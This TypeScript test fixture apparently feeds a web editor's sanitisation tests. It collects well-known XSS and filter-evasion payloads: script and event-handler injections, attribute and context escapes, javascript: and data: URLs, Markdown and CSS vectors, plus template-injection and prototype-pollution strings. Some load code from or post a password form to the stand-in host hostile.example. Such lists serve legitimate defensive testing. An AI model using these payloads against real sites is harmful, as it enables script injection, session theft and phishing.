import { EDITOR_LIMITS } from '@garage/contracts/editor-field';

/**
 * Texts that have broken other sites: from the filter evasion lists that testers use. Each calls or names
 * `hostile`, so that its effect is recognised wherever it shows. None may do anything but be read.
 */

/** Elements that run something by themselves or bring something foreign along. */
const ELEMENTS = [
  '<script>hostile()</script>',
  '<ScRiPt>hostile()</sCrIpT>',
  '<script src=//hostile.example/x.js></script>',
  '<script/src="data:text/javascript,hostile()"></script>',
  '<script type=module>hostile()</script>',
  '<script>hostile()//',
  '<script\n>hostile()</script\n>',
  '<<script>hostile();//<</script>',
  '<scr<script>ipt>hostile()</scr</script>ipt>',
  '<script>/*</script><script>*/hostile()</script>',
  '<iframe src="javascript:hostile()"></iframe>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.hostile()&lt;/script&gt;">',
  '<object data="javascript:hostile()"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">',
  '<embed src="javascript:hostile()">',
  '<embed src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27hostile()%27/>">',
  '<base href="https://hostile.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hostile()">',
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
  '<link rel=stylesheet href="https://hostile.example/x.css">',
  '<link rel="import" href="https://hostile.example/">',
  '<link rel=preload as=script href="//hostile.example/x.js">',
  '<form action="javascript:hostile()"><input type=submit></form>',
  '<form action="https://hostile.example/"><input name=password><button>OK</button></form>',
  '<math><a xlink:href="javascript:hostile()">x</a></math>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<svg><script href="data:,hostile()"/></svg>',
  '<svg><a><animate attributeName=href values=javascript:hostile() /><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hostile()>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:hostile()"></foreignObject></svg>',
  '<template><script>hostile()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>">',
  '<xmp><p title="</xmp><img src=x onerror=hostile()>">',
  '<plaintext>hostile',
  '<applet code="hostile.class"></applet>',
  '<frameset onload=hostile()>',
  '<portal src="https://hostile.example/">',
  '<dialog open>hostile</dialog>',
];

/** Handlers of events. */
const HANDLERS = [
  '<img src=x onerror=hostile()>',
  '<img src=x onerror="hostile()">',
  "<img src='x' onerror='hostile()'>",
  '<img/src=x/onerror=hostile()>',
  '<img src=x onerror=&#104;ostile()>',
  '<img src=x:x onerror=hostile`1`>',
  '<img """><script>hostile()</script>">',
  '<img src="x` `<script>hostile()</script>"` `>',
  '<IMG SRC=x OnErRoR=hostile()>',
  '<svg onload=hostile()>',
  '<svg/onload=hostile()>',
  '<svg\tonload=hostile()>',
  '<svg onload=hostile()//',
  '<body onload=hostile()>',
  '<body onpageshow=hostile()>',
  '<input autofocus onfocus=hostile()>',
  '<select autofocus onfocus=hostile()>',
  '<textarea autofocus onfocus=hostile()>',
  '<keygen autofocus onfocus=hostile()>',
  '<video><source onerror="hostile()">',
  '<video poster=javascript:hostile()>',
  '<audio src=x onerror=hostile()>',
  '<details open ontoggle=hostile()>',
  '<marquee onstart=hostile()>x</marquee>',
  '<a onmouseover=hostile()>hostile</a>',
  '<div onpointerenter=hostile()>hostile</div>',
  '<p style="animation:a 1s" onanimationstart=hostile()>hostile',
  '<button popovertarget=x>x</button><i popover id=x onbeforetoggle=hostile()>',
  '<isindex action=javascript:hostile() type=image>',
  '<x contenteditable onblur=hostile()>hostile</x>',
];

/** Ways out of an attribute, a comment, a title or a script. */
const ESCAPES = [
  '"><script>hostile()</script>',
  "'><script>hostile()</script>",
  '" onmouseover="hostile()',
  "' onmouseover='hostile()",
  '" autofocus onfocus=hostile() x="',
  '`onmouseover=hostile()',
  '"/><img src=x onerror=hostile()>',
  '--><script>hostile()</script>',
  '--!><img src=x onerror=hostile()>',
  ']]><script>hostile()</script>',
  '</title><script>hostile()</script>',
  '</textarea><script>hostile()</script>',
  '</style><script>hostile()</script>',
  '</script><script>hostile()</script>',
  '</ScRiPt ><img src=x onerror=hostile()>',
  '</noscript><img src=x onerror=hostile()>',
  '</template><img src=x onerror=hostile()>',
  '<!--<script>hostile()',
  '<!--><script>hostile()</script>',
  '"}];hostile();//',
  "';hostile();//",
  '\\";hostile();//',
  '\\u003cscript\\u003ehostile()\\u003c/script\\u003e',
  '${hostile()}',
  '{{constructor.constructor("hostile()")()}}',
  '{{name}}<script>hostile()</script>{{email}}',
  '<%= hostile() %>',
  '&lt;script&gt;hostile()&lt;/script&gt;',
  '&#60;script&#62;hostile()&#60;/script&#62;',
  '%3Cscript%3Ehostile()%3C/script%3E',
  '+ADw-script+AD4-hostile()+ADw-/script+AD4-',
  '\u00bcscript\u00behostile()\u00bc/script\u00be',
  '\uff1cscript\uff1ehostile()\uff1c/script\uff1e',
  '\u202ehostile()<script>\u202c',
  '<script>hostile()</script>\u0000',
  '\u2028hostile()\u2029',
  '__proto__[hostile]=1',
  '{"__proto__":{"hostile":1}}',
];

/** Addresses that run something or lead elsewhere than they seem to. */
const ADDRESSES = [
  'javascript:hostile()',
  'JaVaScRiPt:hostile()',
  ' javascript:hostile()',
  'java\tscript:hostile()',
  'java\nscript:hostile()',
  '\u0001javascript:hostile()',
  'javascript&colon;hostile()',
  'javascript&#58;hostile()',
  '&#106;avascript:hostile()',
  'javascript://garage.example/%0Ahostile()',
  'javascript:/*--></title></style></textarea></script><svg/onload=hostile()>',
  'vbscript:hostile()',
  'data:text/html,<script>hostile()</script>',
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=hostile()>',
  'blob:https://hostile.example/1',
  'filesystem:https://hostile.example/temporary/x.html',
  'view-source:javascript:hostile()',
  'feed:javascript:hostile()',
  '//hostile.example',
  '/\\hostile.example',
  '\\\\hostile.example',
  '/\t/hostile.example',
  'https:hostile.example',
  'https://garage.example@hostile.example" onclick="hostile()',
  'https://hostile.example/" onmouseover="hostile()',
  "https://hostile.example/'><script>hostile()</script>",
  'https://*.hostile.example; script-src *',
  'mailto:a@b.example?subject=<script>hostile()</script>',
  'tel:+41"><script>hostile()</script>',
];

/** Links, pictures and elements in Markdown. */
const MARKDOWN = [
  '[hostile](javascript:hostile())',
  '[hostile](JaVaScRiPt:hostile())',
  '[hostile](javascript&colon;hostile())',
  '[hostile](&#106;avascript:hostile())',
  '[hostile](java\tscript:hostile())',
  '[hostile](<javascript:hostile()>)',
  '[hostile](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)',
  '[hostile](vbscript:hostile())',
  '[hostile](//hostile.example)',
  '[hostile](/\\hostile.example)',
  '[hostile](https://hostile.example "x\\" onclick=hostile() y=\\"")',
  '[hostile](https://hostile.example/"onmouseover="hostile())',
  '![hostile](javascript:hostile())',
  '![hostile](https://hostile.example/x.png"onerror="hostile())',
  '![hostile](x){onerror=hostile()}',
  '<javascript:hostile()>',
  '<https://hostile.example/"onclick="hostile()>',
  '[hostile][1]\n\n[1]: javascript:hostile()',
  '## <img src=x onerror=hostile()>',
  '- <script>hostile()</script>',
  '> <svg onload=hostile()>',
  '```<script>hostile()</script>```',
  '`</code><script>hostile()</script>`',
  '**<b onmouseover=hostile()>hostile</b>**',
  '| a |\n|---|\n| <img src=x onerror=hostile()> |',
];

/** Styles that load, cover or move. */
const STYLES = [
  '<style>*{background:url(javascript:hostile())}</style>',
  '<style>@import "https://hostile.example/x.css";</style>',
  '<style>body{display:none}/*hostile*/</style>',
  '<div style="background:url(https://hostile.example/x)">hostile</div>',
  '<div style="position:fixed;inset:0;z-index:9999">hostile</div>',
  '<div style="width:expression(hostile())">',
  '<p style="-moz-binding:url(//hostile.example/x.xml#x)">',
  '<p style="behavior:url(#hostile)">',
  '#fff;background:url(//hostile.example)',
  'red;}body{display:none}/*hostile',
  '#000}</style><script>hostile()</script>',
  'expression(hostile())',
  'url(javascript:hostile())',
  '@import url(//hostile.example/x.css)',
  '#12345g hostile',
  'var(--hostile)',
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...HANDLERS,
  ...ESCAPES,
  ...ADDRESSES,
  ...MARKDOWN,
  ...STYLES,
];

const LINE_BREAK = /[\n\t]/;
const UNSTORABLE = /[^\P{Cc}\n\t]|[\u2028\u2029]/u;

/** Those that can be stored somewhere, and those that can be nowhere. */
export const STORABLE_TEXTS = HOSTILE_TEXTS.filter((text) => !UNSTORABLE.test(text));
export const UNSTORABLE_TEXTS = HOSTILE_TEXTS.filter((text) => UNSTORABLE.test(text));
/** Those of one line. */
export const HOSTILE_LINES = STORABLE_TEXTS.filter((text) => !LINE_BREAK.test(text));

/** As few values as possible that together hold all texts, none longer than that. */
export function packed(texts: readonly string[], most: number, separator: string): string[] {
  const values: string[] = [];
  for (const text of texts.filter(({ length }) => length <= most)) {
    const last = values.at(-1);
    const together = last === undefined ? text : last + separator + text;
    if (last === undefined || together.length > most) values.push(text);
    else values[values.length - 1] = together;
  }
  return values;
}

/** All of them in as few values as a text of one line, or of several, may hold. */
export const LINES = packed(HOSTILE_LINES, EDITOR_LIMITS.line, ' ');
export const PARAGRAPHS = packed(STORABLE_TEXTS, EDITOR_LIMITS.line, '\n\n');

/** The values again and again. */
export function valueAt(values: readonly string[], index: number): string {
  return values[index % values.length] ?? '';
}
